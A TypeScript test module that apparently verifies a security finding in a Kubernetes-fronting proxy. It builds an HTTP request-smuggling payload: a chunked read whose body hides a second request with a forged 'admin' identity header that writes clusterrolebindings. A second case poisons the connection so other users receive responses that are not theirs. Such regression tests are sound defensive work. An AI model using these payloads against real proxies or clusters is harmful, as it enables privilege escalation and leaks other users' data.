import assert from 'node:assert/strict';
import { type Attack, heldOff, succeeded } from './attack.ts';
import { type ProxiedCluster, SLOW, TARGET, withProxiedCluster } from './proxied-cluster.ts';

const ADMIN = { kind: 'impersonate', user: 'admin:admin', groups: [], role: 'admin' };
const BINDINGS = '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings';

/** A whole request as the administrator, hidden in a chunk of another request's body. */
function smuggling(viewer: string, { method, path }: { readonly method: string; readonly path: string }): string {
  const identity = encodeURIComponent(JSON.stringify(ADMIN));
  const inner = `${method} ${path} HTTP/1.1\r\nHost: kubernetes\r\nfleetshift-identity: ${identity}\r\nContent-Length: 0\r\n\r\n`;
  const head = `GET /targets/${TARGET}/api/version HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${viewer}\r\n`;
  const rest = 'Connection: close\r\nTransfer-Encoding: chunked\r\n\r\n';
  return `${head}${rest}${inner.length.toString(16)}\r\n${inner}\r\n0\r\n\r\n`;
}

/** Sends ordinary requests, which work off anything planted before; returns their answers. */
async function ordinary({ ask, viewer }: ProxiedCluster, count: number): Promise<string[]> {
  const answers: string[] = [];
  for (let each = 0; each < count; each += 1) {
    answers.push(await (await ask(viewer, '/api/v1/namespaces/kube-system')).text());
  }
  return answers;
}

export const smuggledRequest: Attack = {
  finding: 1,
  name: 'a viewer writes to a cluster as the administrator, by a request inside the body of a read',
  run: (stage) =>
    withProxiedCluster(stage, async (it) => {
      const own = await it.ask(it.viewer, BINDINGS, { method: 'POST' });
      assert.equal(own.status, 403, await own.text());
      const heard = await it.say(smuggling(it.viewer, { method: 'POST', path: BINDINGS }));
      assert.match(heard, /^HTTP\/1\.1 \d{3} /, 'the read that carries it is answered');
      await ordinary(it, 5);
      const written = it.arrived.find(({ method, url }) => method === 'POST' && url.endsWith(BINDINGS));
      return written === undefined
        ? heldOff(`the API server saw no write; the read was answered with ${heard.slice(9, 12)}`)
        : succeeded(`the API server saw ${written.method} ${written.url} as ${written.as}`);
    }),
};

export const crossedAnswers: Attack = {
  finding: 1,
  name: 'a viewer plants a request on a tunnel, so that others get answers that are not theirs',
  run: (stage) =>
    withProxiedCluster(stage, async (it) => {
      await it.say(smuggling(it.viewer, { method: 'GET', path: SLOW }));
      const answers = await ordinary(it, 5);
      const foreign = answers.find((answer) => !answer.includes('"name":"kube-system"'));
      return foreign === undefined
        ? heldOff('each of the next five callers got the answer to the own request')
        : succeeded(`a request for kube-system was answered with ${foreign.slice(0, 120)}`);
    }),
};
